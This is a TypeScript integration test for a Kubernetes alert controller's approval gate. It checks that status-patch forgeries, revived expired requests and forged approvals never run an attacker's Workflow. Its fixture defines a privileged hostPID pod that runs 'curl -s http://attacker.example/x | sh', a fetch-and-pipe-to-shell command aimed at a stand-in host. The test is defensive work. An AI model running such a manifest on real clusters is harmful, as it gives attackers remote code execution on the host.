/**
 * The approval gate end to end: the alert reconciler against the sandbox API server (with its simulated Argo
 * controller, which honours `spec.suspend`) and a real Redis, decisions through the approval service. What runs
 * is the Workflow created suspended when approval was requested; its expiry and decisions are the record on it.
 * The attacks of issue 10 item 1 are replayed as an approver with `patch` on `aegisalerts/status` would make
 * them: replacing the rendered manifest, its digest and the history; reviving an expired request; forging an
 * approval on an alert no rule matched. None of them runs anything but the original, approved Workflow.
 */
import { createHash, randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PatchStrategy, setHeaderOptions } from '@kubernetes/client-node';
import { stringify } from 'yaml';
import { buildAegisAlertObject } from '../src/core/alerts/index.js';
import type { AegisAlert, AlertApproval } from '../src/core/resources/index.js';
import { canonicalJson } from '../src/core/templates/index.js';
import {
  startAlertController,
  workflowNameFor,
  type AlertController,
  type WorkflowObject,
} from '../src/controller/alerts/index.js';
import { createApprovalService, type ApprovalService } from '../src/controller/approvals/index.js';
import { createRuleMatcher, createRuleSource, type RuleMatcher } from '../src/controller/rules/index.js';
import { createEventRecorder, createWorkflowStore } from '../src/kube/index.js';
import { parseCustomPayload } from '../src/webhooks/formats/index.js';
import {
  alertNamespace,
  eventually,
  startIngestEnvironment,
  type IngestEnvironment,
} from './support/ingest-environment.js';

const payloadFile = new URL('../examples/alerts/custom-node-firing.json', import.meta.url);
const aegis = { group: 'aegis.io', version: 'v1alpha1' } as const;
const workflowsApi = { group: 'argoproj.io', version: 'v1alpha1', plural: 'workflows' } as const;
const mergePatch = setHeaderOptions('Content-Type', PatchStrategy.MergePatch);
const prefix = `gate-${randomUUID().slice(0, 8)}`;

let env: IngestEnvironment;
let matcher: RuleMatcher;
let controller: AlertController;
let approvals: ApprovalService;

const echoManifest = `apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata:
  annotations:
    sandbox.aegis.io/duration: 100ms
spec:
  entrypoint: start
  templates:
  - name: start
    container:
      image: busybox
      command: [/bin/sh, -c, "echo {{.node}}"]
`;

/** What an attacker wants to run: a privileged pod in the host's PID namespace piping a script into sh. */
const evilWorkflow = {
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Workflow',
  metadata: { generateName: 'evil-' },
  spec: {
    entrypoint: 'pwn',
    serviceAccountName: 'aegis',
    templates: [
      {
        name: 'pwn',
        podSpecPatch: '{"hostPID": true}',
        container: {
          image: 'alpine',
          securityContext: { privileged: true },
          command: ['/bin/sh', '-c', 'curl -s http://attacker.example/x | sh'],
        },
      },
    ],
  },
};
const evilManifest = stringify(evilWorkflow);
const evilDigest = createHash('sha256').update(canonicalJson(evilWorkflow)).digest('hex');

async function createObject(plural: string, body: object): Promise<void> {
  await env.clients.customObjects.createNamespacedCustomObject({
    ...aegis,
    plural,
    namespace: alertNamespace,
    body,
  });
}

async function createRule(name: string, type: string, approval: Record<string, unknown>): Promise<void> {
  await createObject('aegisalertopsrules', {
    apiVersion: 'aegis.io/v1alpha1',
    kind: 'AegisAlertOpsRule',
    metadata: { name },
    spec: {
      alertConditions: [{ type, status: 'Firing' }],
      opsTemplate: { kind: 'AegisOpsTemplate', namespace: alertNamespace, name: 'echo-node' },
      approval,
    },
  });
}

async function createAlert(type: string): Promise<AegisAlert> {
  const body: Record<string, unknown> = JSON.parse(await readFile(payloadFile, 'utf8'));
  body['type'] = type;
  body['details'] = { ...(body['details'] as object), node: 'dev1' };
  body['fingerprint'] = randomUUID().replace(/-/g, '').slice(0, 16);
  const [accepted] = parseCustomPayload(body).accepted;
  if (accepted === undefined) throw new Error('example payload refused');
  const now = new Date().toISOString().replace(/\.\d{3}Z$/, 'Z');
  const { object, status } = buildAegisAlertObject(accepted.alert, {
    namespace: alertNamespace,
    systemParameters: { cluster: 'sandbox' },
    ttl: {},
    now,
  });
  const created = await env.store.create(object);
  return await env.store.patchStatus(alertNamespace, created.metadata.name ?? '', status, {
    resourceVersion: created.metadata.resourceVersion ?? '',
  });
}

async function getAlert(name: string): Promise<AegisAlert> {
  const alert = await env.store.get(alertNamespace, name);
  if (alert === undefined) throw new Error(`alert ${name} is gone`);
  return alert;
}

async function alertWhere(name: string, predicate: (alert: AegisAlert) => boolean, what: string) {
  return await eventually(
    async () => {
      const alert = await getAlert(name);
      return predicate(alert) ? alert : undefined;
    },
    15_000,
    what,
  );
}

async function allWorkflows(): Promise<WorkflowObject[]> {
  const list = (await env.clients.customObjects.listNamespacedCustomObject({
    ...workflowsApi,
    namespace: alertNamespace,
  })) as { items: WorkflowObject[] };
  return list.items;
}

async function workflowsOf(alert: AegisAlert): Promise<WorkflowObject[]> {
  return (await allWorkflows()).filter((item) =>
    item.metadata?.ownerReferences?.some((reference) => reference.uid === alert.metadata.uid),
  );
}

async function podsOf(workflow: string): Promise<number> {
  const pods = await env.clients.core.listNamespacedPod({
    namespace: alertNamespace,
    labelSelector: `workflows.argoproj.io/workflow=${workflow}`,
  });
  return pods.items.length;
}

/** Nothing anywhere in the namespace carries the attacker's command. */
async function expectNoEvilWorkflow(): Promise<void> {
  for (const workflow of await allWorkflows())
    expect(JSON.stringify(workflow.spec ?? {})).not.toContain('attacker.example');
}

/** A status patch, as `kubectl patch aegisalert NAME --subresource=status --type=merge` sends it. */
async function patchStatusAsApprover(name: string, status: Record<string, unknown>): Promise<void> {
  await env.clients.customObjects.patchNamespacedCustomObjectStatus(
    { ...aegis, plural: 'aegisalerts', namespace: alertNamespace, name, body: { status } },
    mergePatch,
  );
}

const kubeNow = (offsetMs = 0) => new Date(Date.now() + offsetMs).toISOString().replace(/\.\d{3}Z$/, 'Z');

beforeAll(async () => {
  env = await startIngestEnvironment();
  await createObject('aegisopstemplates', {
    apiVersion: 'aegis.io/v1alpha1',
    kind: 'AegisOpsTemplate',
    metadata: { name: 'echo-node' },
    spec: { manifest: echoManifest },
  });
  await createRule('gate-one', 'GateType', { required: true, approvers: ['U123', 'U456'] });
  await createRule('gate-two', 'GateTwoType', {
    required: true,
    approvers: ['U123', 'U456'],
    minApprovals: 2,
  });
  await createRule('gate-short', 'GateShortType', { required: true, timeout: '1s' });
  matcher = createRuleMatcher(createRuleSource(env.clients));
  await matcher.waitForSync(10_000);
  controller = await startAlertController({
    clients: env.clients,
    redisUrl: env.redis.url,
    prefix,
    matcher,
    namespace: alertNamespace,
    resyncIntervalMs: 0,
  });
  await controller.waitForSync(10_000);
  approvals = createApprovalService({
    store: env.store,
    workflows: createWorkflowStore(env.clients),
    events: createEventRecorder(env.clients, { component: 'aegis-test' }),
    clock: () => new Date(),
    namespace: alertNamespace,
  });
}, 60_000);

afterAll(async () => {
  await controller?.stop();
  await matcher?.stop();
  await env?.stop();
});

async function waitingAlert(type: string): Promise<AegisAlert> {
  const alert = await createAlert(type);
  return await alertWhere(
    alert.metadata.name ?? '',
    (item) => item.status?.opsStatus?.triggerStatus === 'AwaitingApproval',
    'AwaitingApproval',
  );
}

describe('approval gate', () => {
  it('creates the Workflow suspended when approval is requested and resumes exactly it once approved', async () => {
    const waiting = await waitingAlert('GateType');
    const name = waiting.metadata.name ?? '';
    const approval = waiting.status?.approval;
    expect(approval).toMatchObject({
      state: 'Pending',
      rule: { namespace: alertNamespace, name: 'gate-one' },
      approvers: ['U123', 'U456'],
      minApprovals: 1,
      history: [],
    });
    expect(approval?.renderedManifest).toContain('echo dev1');
    expect(Date.parse(approval?.expiresAt ?? '') - Date.parse(approval?.requestedAt ?? '')).toBe(30 * 60_000);
    const [held, ...others] = await workflowsOf(waiting);
    expect(others).toHaveLength(0);
    expect(held?.metadata?.name).toBe(workflowNameFor(name));
    expect(held?.spec?.['suspend']).toBe(true);
    expect(held?.metadata?.labels).toMatchObject(waiting.metadata.labels ?? {});
    await new Promise((resolve) => setTimeout(resolve, 400));
    expect(await podsOf(held?.metadata?.name ?? '')).toBe(0);
    // The mirror is settled: waiting writes nothing more (no status loop).
    expect((await getAlert(name)).metadata.resourceVersion).toBe(waiting.metadata.resourceVersion);

    const outcome = await approvals.approve(
      { namespace: alertNamespace, name },
      { id: 'U123', credential: 'slack:U123' },
      'slack',
      'checked',
    );
    expect(outcome).toMatchObject({ ok: true, approval: { state: 'Approved' } });
    const done = await alertWhere(
      name,
      (item) => item.status?.opsStatus?.alertOpsStatus === 'Succeeded',
      'ran',
    );
    expect(done.status?.opsStatus?.triggerStatus).toBe('Triggered');
    expect(done.status?.approval).toMatchObject({
      state: 'Approved',
      history: [
        { decision: 'Approved', by: 'U123', via: 'slack', reason: 'checked', credential: 'slack:U123' },
      ],
    });
    const [ran, ...more] = await workflowsOf(done);
    expect(more).toHaveLength(0);
    expect(ran?.metadata?.uid).toBe(held?.metadata?.uid);
    expect(ran?.spec?.['suspend']).toBe(false);
    expect(await podsOf(ran?.metadata?.name ?? '')).toBe(1);
  });

  it('attack: a status patch replacing renderedManifest, digest and history runs nothing', async () => {
    const waiting = await waitingAlert('GateType');
    const name = waiting.metadata.name ?? '';
    const original = waiting.status?.approval as AlertApproval;
    const at = kubeNow();
    await patchStatusAsApprover(name, {
      approval: {
        ...original,
        state: 'Approved',
        decidedAt: at,
        renderedManifest: evilManifest,
        manifestDigest: evilDigest,
        approvers: [],
        history: [
          { decision: 'Approved', by: 'U123', via: 'slack', at },
          { decision: 'Approved', by: 'U456', via: 'slack', at },
        ],
      },
    });
    // The controller puts the report back from its record; the suspended Workflow is untouched.
    const healed = await alertWhere(
      name,
      (item) =>
        item.status?.approval?.state === 'Pending' && item.status.approval.manifestDigest !== evilDigest,
      'the status mirrors the record again',
    );
    expect(healed.status?.approval?.renderedManifest).toContain('echo dev1');
    expect(healed.status?.approval?.history).toEqual([]);
    await new Promise((resolve) => setTimeout(resolve, 400));
    const [held, ...others] = await workflowsOf(healed);
    expect(others).toHaveLength(0);
    expect(held?.spec?.['suspend']).toBe(true);
    expect(await podsOf(held?.metadata?.name ?? '')).toBe(0);
    await expectNoEvilWorkflow();
    // Rejecting through the service deletes it: nothing ever ran.
    expect(
      await approvals.reject({ namespace: alertNamespace, name }, { id: 'U456' }, 'api', 'not needed'),
    ).toMatchObject({ ok: true, approval: { state: 'Rejected' } });
    const rejected = await alertWhere(
      name,
      (item) => item.status?.opsStatus?.triggerStatus === 'Rejected',
      'Rejected',
    );
    await eventually(
      async () => ((await workflowsOf(rejected)).length === 0 ? true : undefined),
      10_000,
      'deleted',
    );
  });

  it('attack: reviving an Expired request runs nothing', async () => {
    const alert = await createAlert('GateShortType');
    const name = alert.metadata.name ?? '';
    const expired = await alertWhere(name, (item) => item.status?.approval?.state === 'Expired', 'Expired');
    expect(expired.status?.opsStatus).toMatchObject({
      triggerStatus: 'TriggerFailed',
      message: 'approval expired',
    });
    await eventually(
      async () => ((await workflowsOf(expired)).length === 0 ? true : undefined),
      10_000,
      'deleted',
    );

    const at = kubeNow();
    await patchStatusAsApprover(name, {
      opsStatus: { triggerStatus: 'AwaitingApproval', message: 'revived' },
      approval: {
        ...expired.status?.approval,
        state: 'Approved',
        expiresAt: kubeNow(3_600_000),
        decidedAt: at,
        history: [{ decision: 'Approved', by: 'U123', via: 'kubectl', at }],
      },
    });
    const refused = await alertWhere(
      name,
      (item) =>
        item.status?.opsStatus?.triggerStatus === 'TriggerFailed' &&
        item.status.opsStatus.message !== 'revived',
      'refused again',
    );
    expect(refused.status?.opsStatus?.message).toMatch(/no suspended Workflow .* nothing was run/);
    expect(await workflowsOf(refused)).toHaveLength(0);
    // Nor can the approval service decide on it.
    expect(await approvals.approve({ namespace: alertNamespace, name }, { id: 'U123' }, 'api')).toMatchObject(
      { ok: false },
    );
  });

  it('attack: forging an approval on an alert no rule matched runs nothing', async () => {
    const alert = await createAlert('NoRuleForThisType');
    const name = alert.metadata.name ?? '';
    const unmatched = await alertWhere(
      name,
      (item) => item.status?.opsStatus?.triggerStatus === 'RuleNotFound',
      'RuleNotFound',
    );
    const at = kubeNow();
    await patchStatusAsApprover(name, {
      opsStatus: { triggerStatus: 'AwaitingApproval' },
      approval: {
        state: 'Approved',
        requestedAt: at,
        expiresAt: kubeNow(3_600_000),
        decidedAt: at,
        renderedManifest: evilManifest,
        manifestDigest: evilDigest,
        history: [{ decision: 'Approved', by: 'U123', via: 'kubectl', at }],
      },
    });
    const refused = await alertWhere(
      name,
      (item) => item.status?.opsStatus?.triggerStatus === 'TriggerFailed',
      'refused',
    );
    expect(refused.status?.opsStatus?.message).toMatch(/nothing was run/);
    expect(await workflowsOf(unmatched)).toHaveLength(0);
    await expectNoEvilWorkflow();
  });

  it('one credential cannot make up minApprovals: 2, two people can', async () => {
    const waiting = await waitingAlert('GateTwoType');
    const name = waiting.metadata.name ?? '';
    const reference = { namespace: alertNamespace, name };
    const token = 'token:sha256:aaaaaaaaaaaa';
    expect(await approvals.approve(reference, { id: 'U123', credential: token }, 'api')).toMatchObject({
      ok: true,
    });
    expect(await approvals.approve(reference, { id: 'U456', credential: token }, 'api')).toMatchObject({
      ok: false,
      code: 'SameCredential',
    });
    await new Promise((resolve) => setTimeout(resolve, 300));
    const still = await getAlert(name);
    expect(still.status?.opsStatus?.triggerStatus).toBe('AwaitingApproval');
    expect((await workflowsOf(still))[0]?.spec?.['suspend']).toBe(true);
    expect(
      await approvals.approve(reference, { id: 'U456', credential: 'slack:U456' }, 'slack'),
    ).toMatchObject({ ok: true, approval: { state: 'Approved' } });
    await alertWhere(name, (item) => item.status?.opsStatus?.alertOpsStatus === 'Succeeded', 'ran');
  });

  it('cancels a pending request when the alert resolves: the suspended Workflow is deleted', async () => {
    const waiting = await waitingAlert('GateType');
    const name = waiting.metadata.name ?? '';
    await env.store.patchStatus(alertNamespace, name, { status: 'Resolved' });
    const done = await alertWhere(name, (item) => item.status?.approval?.state === 'Cancelled', 'Cancelled');
    expect(done.status?.opsStatus).toMatchObject({
      triggerStatus: 'TriggerFailed',
      message: 'alert resolved before approval',
    });
    expect(done.status?.approval?.history?.at(-1)).toMatchObject({ decision: 'Cancelled', by: 'aegis' });
    await eventually(
      async () => ((await workflowsOf(done)).length === 0 ? true : undefined),
      10_000,
      'deleted',
    );
  });
});
